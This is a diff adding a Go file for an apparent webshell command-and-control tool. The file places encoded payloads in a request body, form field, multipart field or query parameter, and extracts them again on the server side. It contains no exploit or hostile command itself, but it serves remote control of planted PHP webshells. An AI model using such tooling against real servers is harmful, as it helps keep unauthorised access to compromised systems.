@@ -0,0 +1,197 @@
+package c2
+
+import (
+	"bytes"
+	"caffeine/core"
+	"fmt"
+	"io"
+	"mime"
+	"mime/multipart"
+	"net/url"
+	"strings"
+)
+
+// 载荷位置，决定编码后的数据放在请求的哪个部分
+const (
+	PayloadBody      = "body"      // 原始请求体(默认)
+	PayloadForm      = "form"      // application/x-www-form-urlencoded 表单字段，对应 $_POST[name]
+	PayloadMultipart = "multipart" // multipart/form-data 表单字段
+	PayloadQuery     = "query"     // 查询参数，对应 $_GET[name]
+)
+
+// PayloadLocations 支持的全部载荷位置
+var PayloadLocations = []string{PayloadBody, PayloadForm, PayloadMultipart, PayloadQuery}
+
+// Payload 载荷传输方式
+type Payload struct {
+	Location string `yaml:"location"` // body/form/multipart/query，为空时为 body
+	Name     string `yaml:"name"`     // 字段名，shell 设置了密码时以密码为准
+}
+
+// location 返回载荷位置，默认原始请求体
+func (p Payload) location() string {
+	if p.Location == "" {
+		return PayloadBody
+	}
+	return p.Location
+}
+
+// fieldName shell 的密码即 PHPWebshell.Generate 中的 POST 字段名，优先使用
+func (p Payload) fieldName(target core.Target) string {
+	if target.Password != "" {
+		return target.Password
+	}
+	return p.Name
+}
+
+// Validate 校验载荷位置
+func (p Payload) Validate() error {
+	for _, location := range PayloadLocations {
+		if p.location() == location {
+			return nil
+		}
+	}
+	return fmt.Errorf("不支持的载荷位置:%s，可用: %s", p.Location, strings.Join(PayloadLocations, ", "))
+}
+
+// apply 将载荷(含填充)写入请求
+func (p Payload) apply(req *core.HttpRequest, name string, payload []byte) error {
+	location := p.location()
+	if location != PayloadBody && name == "" {
+		return fmt.Errorf("载荷位置 %s 需要字段名，请设置 shell 密码或 request.payload.name", location)
+	}
+	switch location {
+	case PayloadBody:
+		req.Body = payload
+	case PayloadForm:
+		req.Body = []byte(url.Values{name: {string(payload)}}.Encode())
+		// 其他类型的请求体不会被解析到 $_POST，覆盖配置中的 Content-Type
+		req.Headers["Content-Type"] = "application/x-www-form-urlencoded"
+	case PayloadMultipart:
+		var body bytes.Buffer
+		writer := multipart.NewWriter(&body)
+		if err := writer.WriteField(name, string(payload)); err != nil {
+			return err
+		}
+		if err := writer.Close(); err != nil {
+			return err
+		}
+		req.Body = body.Bytes()
+		// boundary 由 writer 生成，必须覆盖配置中的 Content-Type
+		req.Headers["Content-Type"] = writer.FormDataContentType()
+	case PayloadQuery:
+		u, err := url.Parse(req.URL)
+		if err != nil {
+			return fmt.Errorf("解析请求地址失败: %v", err)
+		}
+		query := u.Query()
+		query.Set(name, string(payload))
+		u.RawQuery = query.Encode()
+		req.URL = u.String()
+	default:
+		return p.Validate()
+	}
+	return nil
+}
+
+// extract 服务端视角：从请求中取出载荷(含填充)
+func (p Payload) extract(req *core.HttpRequest, name string) ([]byte, error) {
+	switch p.location() {
+	case PayloadBody:
+		return req.Body, nil
+	case PayloadForm:
+		values, err := url.ParseQuery(string(req.Body))
+		if err != nil {
+			return nil, fmt.Errorf("解析表单失败: %v", err)
+		}
+		if !values.Has(name) {
+			return nil, fmt.Errorf("表单中缺少字段 %s", name)
+		}
+		return []byte(values.Get(name)), nil
+	case PayloadMultipart:
+		_, params, err := mime.ParseMediaType(req.Headers["Content-Type"])
+		if err != nil || params["boundary"] == "" {
+			return nil, fmt.Errorf("无效的 multipart Content-Type: %s", req.Headers["Content-Type"])
+		}
+		reader := multipart.NewReader(bytes.NewReader(req.Body), params["boundary"])
+		for {
+			part, err := reader.NextPart()
+			if err == io.EOF {
+				return nil, fmt.Errorf("multipart 中缺少字段 %s", name)
+			}
+			if err != nil {
+				return nil, fmt.Errorf("解析 multipart 失败: %v", err)
+			}
+			if part.FormName() == name {
+				return io.ReadAll(part)
+			}
+		}
+	case PayloadQuery:
+		u, err := url.Parse(req.URL)
+		if err != nil {
+			return nil, fmt.Errorf("解析请求地址失败: %v", err)
+		}
+		if !u.Query().Has(name) {
+			return nil, fmt.Errorf("查询参数中缺少 %s", name)
+		}
+		return []byte(u.Query().Get(name)), nil
+	}
+	return nil, p.Validate()
+}
+
+// stream 以流的方式生成请求体，write 写入载荷(含填充)，返回的读取器在发送请求时被消费
+func (p Payload) stream(req *core.HttpRequest, name string, write func(w io.Writer) error) (io.Reader, error) {
+	location := p.location()
+	if location == PayloadQuery {
+		return nil, fmt.Errorf("载荷位置 %s 不支持流式传输", location)
+	}
+	if location != PayloadBody && name == "" {
+		return nil, fmt.Errorf("载荷位置 %s 需要字段名，请设置 shell 密码或 request.payload.name", location)
+	}
+	if err := p.Validate(); err != nil {
+		return nil, err
+	}
+
+	pr, pw := io.Pipe()
+	var multipartWriter *multipart.Writer
+	switch location {
+	case PayloadForm:
+		req.Headers["Content-Type"] = "application/x-www-form-urlencoded"
+	case PayloadMultipart:
+		multipartWriter = multipart.NewWriter(pw)
+		req.Headers["Content-Type"] = multipartWriter.FormDataContentType()
+	}
+
+	go func() {
+		var err error
+		switch location {
+		case PayloadBody:
+			err = write(pw)
+		case PayloadForm:
+			if _, err = io.WriteString(pw, url.QueryEscape(name)+"="); err == nil {
+				err = write(&queryEscapeWriter{w: pw})
+			}
+		case PayloadMultipart:
+			var part io.Writer
+			if part, err = multipartWriter.CreateFormField(name); err == nil {
+				if err = write(part); err == nil {
+					err = multipartWriter.Close()
+				}
+			}
+		}
+		pw.CloseWithError(err)
+	}()
+	return pr, nil
+}
+
+// queryEscapeWriter 按 application/x-www-form-urlencoded 规则转义写入的数据
+type queryEscapeWriter struct {
+	w io.Writer
+}
+
+func (q *queryEscapeWriter) Write(p []byte) (int, error) {
+	if _, err := io.WriteString(q.w, url.QueryEscape(string(p))); err != nil {
+		return 0, err
+	}
+	return len(p), nil
+}